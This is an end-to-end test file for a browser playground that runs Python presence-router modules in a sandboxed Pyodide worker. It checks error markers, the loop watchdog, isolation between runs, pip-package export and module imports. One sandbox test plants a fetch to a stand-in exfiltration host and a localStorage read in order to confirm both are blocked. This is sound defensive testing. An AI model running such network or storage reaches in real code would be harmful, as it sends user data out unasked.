// Python modules in the browser (issue 13), in Chromium against the production build:
// a Python example opens and draws its graph (Pyodide loaded from our origin into the
// sandboxed engine worker), a Python error is marked on its line, a `while True:` is
// stopped by the watchdog and the next edit runs, and the documented
// ExamplePresenceRouter shows its AttributeError at the `update.state_key` line; `import js`
// reaches only the locked-down worker scope; one run's changes to the interpreter are gone
// in the next; Export makes a pip package of a .py module.
// One page, reused across tests in order. Pyodide's start in SwiftShader Chromium is
// slow, so waits are long; the times are printed (budgets live in `npm run bench`).
import { test, before } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { strFromU8, unzipSync } from "fflate";
import { useSession, type TestPage } from "./harness.ts";
import { cursorTo, editorReady, lineOf, markers, pairs, replaceText, snapshot } from "./playground.ts";

const s = useSession();
let t: TestPage;

// A fresh context opened at the Python example's direct URL (#example=, share/route.ts).
before(async () => {
  t = await s.newPage();
  await t.page.goto(`${s.baseUrl}#example=modern-docs-router-py`);
});

async function openExample(name: string): Promise<void> {
  const page = t.page;
  await page.getByTestId("examples-button").click();
  const dialog = page.getByRole("dialog", { name: "Examples" });
  await dialog.locator(`[data-testid="example-card"][data-name="${name}"]`).getByRole("button", { name: /Open example/ }).click();
}

async function waitRun(pred: string, timeout = 180000): Promise<void> {
  try {
    await t.page.waitForFunction(new Function(`const snap = window.__playground.snapshot(); return ${pred};`) as () => boolean, null, { timeout });
  } catch (e) {
    const snap = await snapshot(t.page);
    console.log(`# waited for ${pred}; got ${JSON.stringify({ ...snap, sources: undefined, deliveries: snap.deliveries.length })}`);
    throw e;
  }
}

/** A .py file from the new-module menu (the modern Python skeleton), named by typing, its tab open. */
async function newPythonModule(name: string): Promise<void> {
  const page = t.page;
  await page.getByTestId("new-module").click();
  await page.getByRole("menu", { name: "New module file" }).getByRole("menuitem", { name: "Python router, modern (modules:)" }).click();
  await page.getByRole("textbox", { name: /file name/ }).waitFor();
  await page.keyboard.type(name);
  await page.keyboard.press("Enter");
  await page.getByRole("tab", { name, exact: true }).waitFor();
}

test("a Python example's direct URL opens it in a fresh browser and draws its graph", async () => {
  const t0 = Date.now();
  await waitRun(`snap.example === "modern-docs-router-py" && snap.settled && snap.runStatus === "ok" && snap.deliveries.length > 0`);
  console.log(`# Python example: graph ${Date.now() - t0} ms after the page's start (cold Pyodide)`);
  await editorReady(t.page);
  const snap = await snapshot(t.page);
  assert.deepEqual(Object.keys(snap.sources).sort(), ["router.py", "scenario.yaml"]);
  assert.equal(await t.page.getByTestId("link-error").count(), 0);
  assert.deepEqual(pairs(snap).filter((p) => p.endsWith(">@alice:example.com")), ["@bob:example.com>@alice:example.com", "@charlie:somewhere.org>@alice:example.com"]);
  assert.equal(snap.errors, 0);
  await t.page.getByRole("tab", { name: "router.py", exact: true }).click();
  await t.page.screenshot({ path: "reports/python-example.png" }).catch(() => {});
});

/** Run requests the page has handed to the sandbox so far (EngineSandbox.dispatch). */
const runsSent = async () => Number((await t.page.getByTestId("engine-sandbox").getAttribute("data-runs-sent")) ?? 0);

test("a burst of keystrokes in a Python module begins one run for the burst, not one per key, and the graph is the last key's", async () => {
  const page = t.page;
  await page.getByRole("tab", { name: "router.py", exact: true }).click();
  await editorReady(page);
  await page.locator(".view-lines").click();
  await cursorTo(page, 1);
  await page.keyboard.type("# burst ");
  await page.keyboard.press("Enter");
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.sources["router.py"].includes("# burst ")`);
  // The example's first run was cold: its spares waited for the editor (they would share
  // the cores with Monaco's evaluation), so none started before it was ready.
  const first = await page.evaluate(() => window.__perf!.runs[window.__perf!.runs.length - 1]?.timing ?? {});
  assert.equal(first.spares_before_editor, 0, JSON.stringify(first));
  await page.waitForTimeout(2500); // the spares restore their interpreters
  const before = await runsSent();
  await cursorTo(page, 1, "end");
  // When each key reached the page (a loaded machine delays the keys themselves).
  await page.evaluate(() => {
    const at: number[] = ((window as unknown as { __keys: number[] }).__keys = []);
    window.addEventListener("keydown", () => at.push(performance.now()), { capture: true });
  });
  // 50 ms apart: each key's compile (~25 ms) is mostly done before the next key, so
  // without the typing gate (src/sandbox/typingGate.ts) the keys would send 4-5 run requests.
  await page.keyboard.type("vwxyz", { delay: 50 });
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.deliveries.length > 0 && snap.sources["router.py"].includes("# burst vwxyz")`);
  const sent = (await runsSent()) - before;
  const keys = await page.evaluate(() => (window as unknown as { __keys: number[] }).__keys);
  // The gate holds a request closer than 400 ms to the previous one until 180 ms pass
  // without a newer one: keys that reached the page 150 ms or more apart may each send.
  const slow = keys.slice(1).filter((t, i) => t - keys[i]! >= 150).length;
  // 2 on a quiet machine (its first key and its last); one compile slowed past the quiet
  // period may add one, and so may each slow key. Without the gate, a quiet machine: 5.
  assert.equal(keys.length, 5);
  assert.ok(sent >= 1 && sent <= 3 + slow, `the burst sent ${sent} run requests; key gaps ${keys.slice(1).map((t, i) => Math.round(t - keys[i]!)).join(", ")} ms`);
  // The graph is the run of the whole burst: its trace carries the last edit's sequence number.
  const last = await page.evaluate(() => window.__perf!.edits[window.__perf!.edits.length - 1]!);
  assert.ok(last.drawn !== undefined, "the last key's edit was drawn");
});

test("a run request that finds its worker still restoring Python replaces the one it holds (no fresh worker per request)", async () => {
  const page = t.page;
  await cursorTo(page, 1, "end");
  // 350 ms apart (slower than typing: each is sent at once): by the third key the ready
  // spares are used up and the next requests meet a worker whose interpreter is restoring.
  for (const k of "abcdefgh") {
    await page.keyboard.press(k);
    await page.waitForTimeout(350);
  }
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.deliveries.length > 0 && snap.sources["router.py"].includes("# burst vwxyzabcdefgh")`);
  const timing = await page.evaluate(() => window.__perf!.runs[window.__perf!.runs.length - 1]?.timing ?? {});
  assert.ok((timing.retargets ?? 0) >= 1, `retargets: ${JSON.stringify(timing)}`);
  // Spares restore one at a time (each says when it is ready), also after this stress.
  assert.equal(timing.restores_at_once, 1, JSON.stringify(timing));
  // The frame is cross-origin isolated here: the worker restored its interpreter from the
  // frame's shared copy of the snapshot (2), not from a 31 MB read of its own (1).
  assert.equal(timing.snapshot, 2, JSON.stringify(timing));
  // Pyodide's asm script was compiled from the worker's memory, not imported from a Blob URL.
  assert.equal(timing.asm_from_memory, 1, JSON.stringify(timing));
  // Back to the example's text for the tests after this one.
  await cursorTo(page, 1);
  await page.keyboard.press("Shift+ArrowDown");
  await page.keyboard.press("Delete");
  await waitRun(`snap.settled && snap.runStatus === "ok" && !snap.sources["router.py"].includes("# burst")`);
});

test("a Python error is marked on its line, and the next edit runs", async () => {
  const snap = await snapshot(t.page);
  const good = snap.sources["router.py"]!;
  const bad = good.replace("        self.api = api\n", "        self.api = api\n        self.limit = config['limit']\n");
  const t0 = Date.now();
  await replaceText(t.page, "router.py", bad);
  await waitRun(`snap.settled && snap.sources["router.py"].includes("limit") && (snap.runStatus !== "ok" || snap.errors > 0)`);
  console.log(`# Python edit → result: ${Date.now() - t0} ms`);
  const line = lineOf(bad, "config['limit']");
  await t.page.waitForFunction(([l]) => (window as any).__playground.markers("router.py").some((m: any) => m.line === l), [line] as const, { timeout: 30000 });
  const ms = await markers(t.page, "router.py");
  const m = ms.find((x) => x.line === line)!;
  assert.match(m.message, /KeyError: 'limit'/);
  await t.page.screenshot({ path: "reports/python-error.png" }).catch(() => {});

  const t1 = Date.now();
  await replaceText(t.page, "router.py", good);
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.errors === 0 && snap.deliveries.length > 0 && !snap.sources["router.py"].includes("limit")`);
  console.log(`# Python edit → graph: ${Date.now() - t1} ms`);
});

test("a Python while True: is stopped by the watchdog, and the next edit runs", async () => {
  const good = (await snapshot(t.page)).sources["router.py"]!;
  const loop = good.replace('        if user_id == "@alice:example.com":', '        while True:\n            pass\n        if user_id == "@alice:example.com":');
  await replaceText(t.page, "router.py", loop);
  await waitRun(`snap.settled && snap.sources["router.py"].includes("while True") && snap.runFailure !== null`);
  const snap = await snapshot(t.page);
  assert.match(snap.runFailure!, /get_interested_users did not return within \d+ ms/);

  await replaceText(t.page, "router.py", good);
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.runFailure === null && snap.deliveries.length > 0 && !snap.sources["router.py"].includes("while True")`);
});

test("a Python module that reaches for the network or storage through `import js` gets an error at that line", async () => {
  const good = (await snapshot(t.page)).sources["router.py"]!;
  // The worker's globals are locked down before any module code runs (docs/security.md):
  // `js` is that global scope, so fetch is gone and storage accessors throw.
  for (const [reach, why] of [
    ['js.fetch("https://exfil.example/ping")', /fetch is not available in a module/],
    ['js.localStorage.getItem("drafts")', /localStorage is not available/],
  ] as const) {
    const bad = good.replace("        self.api = api\n", `        self.api = api\n        import js\n        ${reach}\n`);
    assert.notEqual(bad, good);
    await replaceText(t.page, "router.py", bad);
    const line = lineOf(bad, reach);
    // Both lines sit at the same place: wait for this run's message, not the last one's.
    await t.page
      .waitForFunction(([l, re]) => (window as any).__playground.markers("router.py").some((m: any) => m.line === l && new RegExp(re).test(m.message)), [line, why.source] as const, { timeout: 120000 })
      .catch(() => {});
    const m = (await markers(t.page, "router.py")).find((x) => x.line === line);
    assert.match(m?.message ?? "(no marker on that line)", why);
  }
  assert.deepEqual(t.offsiteRequests, []);
  await replaceText(t.page, "router.py", good);
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.errors === 0 && !snap.sources["router.py"].includes("import js")`);
});

// Issue 13 item 4: fresh interpreter state per run (each run restores Pyodide's memory
// snapshot into a fresh worker). Run 1 changes a builtin, a stdlib module, the synapse
// package, sys.modules and the worker's JS global; run 2 looks for each and raises if it
// sees one. Run 3 does both in one load: the check does see a change in its own run.
const LEAKS = `import builtins, json, sys, types, js
from synapse.handlers.presence import UserPresenceState
`;
const MUTATE = `builtins.LEAKED = True
json.LEAKED = True
UserPresenceState.LEAKED = True
sys.modules["leak_marker"] = types.ModuleType("leak_marker")
js.LEAKED = True
`;
const CHECK = `_seen = [n for n, hit in [("builtins.LEAKED", hasattr(builtins, "LEAKED")), ("json.LEAKED", hasattr(json, "LEAKED")), ("UserPresenceState.LEAKED", hasattr(UserPresenceState, "LEAKED")), ("sys.modules leak_marker", "leak_marker" in sys.modules), ("js.LEAKED", hasattr(js, "LEAKED"))] if hit]
if _seen:
    raise RuntimeError("leaked from an earlier run: " + ", ".join(_seen))
`;

test("one Python run cannot affect the next: builtins, stdlib modules, the synapse package, sys.modules and the JS global changed by one run are pristine in the next", async () => {
  const good = (await snapshot(t.page)).sources["router.py"]!;
  await replaceText(t.page, "router.py", LEAKS + MUTATE + good);
  await waitRun(`snap.settled && snap.sources["router.py"].includes("json.LEAKED = True") && snap.runStatus === "ok" && snap.errors === 0 && snap.deliveries.length > 0`);

  const check = LEAKS + CHECK + good;
  await replaceText(t.page, "router.py", check);
  await waitRun(`snap.settled && snap.sources["router.py"].includes("_seen") && snap.runStatus === "ok"`);
  const after = await snapshot(t.page);
  assert.equal(after.errors, 0, "the second run saw a change made by the first");
  assert.ok(after.deliveries.length > 0);
  assert.deepEqual((await markers(t.page, "router.py")).filter((m) => /leaked/.test(m.message)), []);

  // The check itself works: a change made in the same run is seen, at the raise line.
  const both = LEAKS + MUTATE + CHECK + good;
  await replaceText(t.page, "router.py", both);
  const line = lineOf(both, "raise RuntimeError");
  await t.page.waitForFunction(([l]) => (window as any).__playground.markers("router.py").some((m: any) => m.line === l), [line] as const, { timeout: 120000 });
  const m = (await markers(t.page, "router.py")).find((x) => x.line === line)!;
  assert.match(m.message, /leaked from an earlier run: builtins.LEAKED, json.LEAKED, UserPresenceState.LEAKED, sys.modules leak_marker, js.LEAKED/);

  await replaceText(t.page, "router.py", good);
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.errors === 0 && !snap.sources["router.py"].includes("LEAKED")`);
});

test("the documented ExamplePresenceRouter shows its AttributeError at the update.state_key line (R63)", async () => {
  await openExample("example-presence-router-py");
  await waitRun(`snap.example === "example-presence-router-py" && snap.settled && snap.runStatus === "ok"`);
  const source = (await snapshot(t.page)).sources["my_router.py"]!;
  const line = lineOf(source, "if update.state_key");
  await t.page.getByRole("tab", { name: "my_router.py", exact: true }).click();
  await t.page.waitForFunction(([l]) => (window as any).__playground.markers("my_router.py").some((m: any) => m.line === l), [line] as const, { timeout: 30000 });
  const m = (await markers(t.page, "my_router.py")).find((x) => x.line === line)!;
  assert.match(m.message, /AttributeError: 'UserPresenceState' object has no attribute 'state_key'/);
  await t.page.screenshot({ path: "reports/python-attributeerror.png" }).catch(() => {});
});

test("Export > Python module as a pip package downloads pyproject.toml, the module and a README with its homeserver.yaml", async () => {
  const page = t.page;
  await page.getByTestId("export").click();
  const item = page.getByRole("menuitem", { name: /Python module as a pip package/ });
  const [dl] = await Promise.all([page.waitForEvent("download"), item.click()]);
  assert.equal(dl.suggestedFilename(), "example-presence-router-py.zip");
  const z = unzipSync(new Uint8Array(await readFile((await dl.path())!)));
  assert.deepEqual(Object.keys(z).sort(), ["example-presence-router-py/README.md", "example-presence-router-py/my_router.py", "example-presence-router-py/pyproject.toml"]);
  const snap = await snapshot(page);
  assert.equal(strFromU8(z["example-presence-router-py/my_router.py"]!), snap.sources["my_router.py"]);
  assert.match(strFromU8(z["example-presence-router-py/pyproject.toml"]!), /py-modules = \["my_router"\]/);
  assert.match(strFromU8(z["example-presence-router-py/README.md"]!), /module: my_router\.ExamplePresenceRouter/);
});

test("a Python module imports another .py file of the scenario; an import of a missing file is marked on its line", async () => {
  const page = t.page;
  await openExample("modern-docs-router-py");
  await waitRun(`snap.example === "modern-docs-router-py" && snap.settled && snap.runStatus === "ok" && snap.deliveries.length > 0`);
  const good = (await snapshot(page)).sources["router.py"]!;
  // helpers.py from the new-module menu, then its text: who Alice watches.
  await newPythonModule("helpers.py");
  await replaceText(page, "helpers.py", 'WATCHED = ("@bob:example.com", "@charlie:somewhere.org")\n');
  const importing = good
    .replace("from synapse.module_api import ModuleApi\n", "from synapse.module_api import ModuleApi\n\nfrom helpers import WATCHED\n")
    .replace('if update.user_id in ("@bob:example.com", "@charlie:somewhere.org"):', "if update.user_id in WATCHED:");
  assert.ok(importing.includes("in WATCHED:") && importing.includes("from helpers import"));
  await replaceText(page, "router.py", importing);
  await waitRun(`snap.settled && snap.sources["router.py"].includes("from helpers") && snap.runStatus === "ok" && snap.errors === 0 && snap.deliveries.length > 0`);
  assert.deepEqual(
    pairs(await snapshot(page)).filter((p) => p.endsWith(">@alice:example.com")),
    ["@bob:example.com>@alice:example.com", "@charlie:somewhere.org>@alice:example.com"],
  );

  const missing = importing.replace("from helpers import", "from helperz import");
  await replaceText(page, "router.py", missing);
  const line = lineOf(missing, "from helperz import");
  await page.getByRole("tab", { name: "router.py", exact: true }).click();
  await page.waitForFunction(([l]) => (window as any).__playground.markers("router.py").some((m: any) => m.line === l && /helperz/.test(m.message)), [line] as const, { timeout: 120000 });
  const m = (await markers(page, "router.py")).find((x) => x.line === line)!;
  assert.match(m.message, /ModuleNotFoundError: No module named 'helperz': the scenario has no helperz\.py/);
  await page.screenshot({ path: "reports/python-import-missing.png" }).catch(() => {});
  await replaceText(page, "router.py", good);
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.errors === 0 && !snap.sources["router.py"].includes("helper")`);
});

test("lesson 09 is a Python lesson: router.py's starter fails, the solution passes, Export gives its pip package", async () => {
  const page = t.page;
  await page.getByTestId("learn-button").click();
  const panel = page.getByTestId("learn-panel");
  await panel.waitFor();
  await panel.locator('[data-testid="course-lesson"][data-id="09-to-your-server"]').click();
  await waitRun(`snap.example === "lesson:09-to-your-server" && snap.settled && snap.runStatus === "ok"`);
  assert.deepEqual(Object.keys((await snapshot(page)).sources).sort(), ["router.py", "scenario.yaml"]);
  await page.waitForFunction(() => document.querySelector('[data-testid="checks"]')?.getAttribute("data-state") === "failing", null, { timeout: 120000 });
  await panel.getByTestId("show-solution").click();
  await panel.getByTestId("confirm-solution").click();
  await page.waitForFunction(() => document.querySelector('[data-testid="checks"]')?.getAttribute("data-state") === "complete", null, { timeout: 180000 });
  await page.screenshot({ path: "reports/python-lesson.png" }).catch(() => {});
  await page.getByTestId("export").click();
  const item = page.getByRole("menuitem", { name: /Python module as a pip package/ });
  const [dl] = await Promise.all([page.waitForEvent("download"), item.click()]);
  assert.equal(dl.suggestedFilename(), "09-to-your-server.zip");
  const z = unzipSync(new Uint8Array(await readFile((await dl.path())!)));
  assert.match(strFromU8(z["09-to-your-server/README.md"]!), /module: router\.HelpDeskRouter/);
});

test("an unknown #example= name raises the link banner and leaves the open work as it was", async () => {
  const page = t.page;
  const before = (await snapshot(page)).sources;
  await page.evaluate(() => (location.hash = "#example=no-such-example"));
  const banner = page.getByTestId("link-error");
  await banner.waitFor({ timeout: 30000 });
  assert.match(await banner.innerText(), /there is no example named 'no-such-example' \(the Examples menu lists them\)\. Your current work is unchanged\./);
  assert.deepEqual((await snapshot(page)).sources, before);
  await banner.getByRole("button", { name: "Dismiss" }).click();
});

const HIDE_PY = `from synapse.module_api import ModuleApi


class HideRouter:
    @staticmethod
    def parse_config(config):
        return {"team": config.get("team", []), "hidden": config.get("hidden", [])}

    def __init__(self, config, api: ModuleApi):
        self.config = config
        api.register_presence_router_callbacks(
            get_users_for_states=self.get_users_for_states,
            get_interested_users=self.get_interested_users,
        )

    def visible(self):
        return [u for u in self.config["team"] if u not in self.config["hidden"]]

    async def get_users_for_states(self, states):
        out = {}
        for state in states:
            if state.user_id not in self.visible():
                continue
            for member in self.config["team"]:
                if member != state.user_id:
                    out.setdefault(member, set()).add(state)
        return out

    async def get_interested_users(self, user_id):
        return {u for u in self.visible() if u != user_id}
`;

test("a finding about a Python module goes to its .py file at the callback's def (router-cannot-restrict in Python)", async () => {
  const page = t.page;
  await openExample("router-cannot-restrict");
  await waitRun(`snap.example === "router-cannot-restrict" && snap.settled && snap.runStatus === "ok"`);
  await newPythonModule("hide.py");
  await replaceText(page, "hide.py", HIDE_PY);
  const scenario = (await snapshot(page)).sources["scenario.yaml"]!;
  assert.match(scenario, /module: router\.ts/);
  await replaceText(page, "scenario.yaml", scenario.replace("module: router.ts", "module: hide.HideRouter"));
  await waitRun(`snap.settled && snap.runStatus === "ok" && snap.sources["scenario.yaml"].includes("hide.HideRouter") && snap.errors === 0`);
  const strip = page.getByTestId("consistency-strip");
  await page.waitForFunction(() => document.querySelector('[data-testid="consistency-strip"]')?.getAttribute("data-kind") === "cannot_restrict", null, { timeout: 60000 });
  assert.match(await strip.innerText(), /get_interested_users\('@alice:example\.org'\) at \+00:10\.000 lists @bob:example\.org but not @eve:example\.org/);
  const line = lineOf(HIDE_PY, "async def get_interested_users");
  assert.match(await strip.getByTestId("callback-link").innerText(), new RegExp(`go to hide\\.py:${line}$`));
  await page.getByRole("tab", { name: "scenario.yaml", exact: true }).click();
  await strip.getByTestId("callback-link").click();
  const cursor = await page.evaluate(() => (window as any).__playground.cursor());
  assert.equal(cursor.file, "hide.py");
  assert.equal(cursor.line, line);
  // The line is shown above the strip that overlays the editor's bottom edge, not under it.
  // Monaco draws the revealed lines on its next animation frame (later on a loaded machine).
  const rendered = await page
    .waitForFunction(() => {
      const ed = document.querySelector(".monaco-editor .view-lines");
      const rows = [...(ed?.querySelectorAll(".view-line") ?? [])] as HTMLElement[];
      const row = rows.find((r) => (r.textContent ?? "").replace(/\u00a0/g, " ").includes("async def get_interested_users"));
      return row ? { bottom: row.getBoundingClientRect().bottom } : null;
    }, null, { timeout: 10000 })
    .then((h) => h.jsonValue())
    .catch(() => null);
  assert.ok(rendered, "the go-to line is rendered");
  const lineBox = rendered;
  const stripTop = (await strip.boundingBox())!.y;
  assert.ok(lineBox.bottom <= stripTop, `line ${line} ends at ${lineBox.bottom}px, under the strip at ${stripTop}px`);
  await page.screenshot({ path: "reports/python-finding-goto.png" }).catch(() => {});
});
